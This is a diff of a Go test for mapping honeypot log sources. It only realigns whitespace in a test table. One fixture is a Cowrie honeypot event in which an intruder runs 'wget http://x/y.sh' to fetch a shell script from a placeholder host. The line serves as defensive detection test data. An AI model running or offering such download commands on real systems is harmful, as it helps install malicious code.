@@ -14,9 +14,9 @@ func TestSourceMapping(t *testing.T) {
 	received := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
 	tests := []struct {
 		name, source, line string
-		parse               ingest.Parser
-		logsource, det      string
-		want                bool
+		parse              ingest.Parser
+		logsource, det     string
+		want               bool
 	}{
 		{"cowrie: sensor field name", "cowrie",
 			`{"eventid":"cowrie.command.input","input":"wget http://x/y.sh","src_ip":"203.0.113.9","session":"s1","timestamp":"2026-03-01T12:00:00Z","sensor":"hp1"}`,
